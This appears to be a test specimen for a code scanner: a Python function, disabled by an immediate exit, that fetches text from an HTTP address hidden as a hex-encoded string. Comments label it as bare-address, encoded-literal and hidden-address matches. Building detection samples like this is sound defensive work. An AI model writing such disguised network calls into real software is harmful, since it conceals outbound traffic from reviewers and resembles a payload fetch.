raise SystemExit("specimen: not to be run")
import requests

def ask():
    return requests.get(bytes.fromhex("687474703a2f2f3139322e302e322e372f6e657874").decode()).text  # match: bare-address  # match: encoded-literal  # match: hidden-address
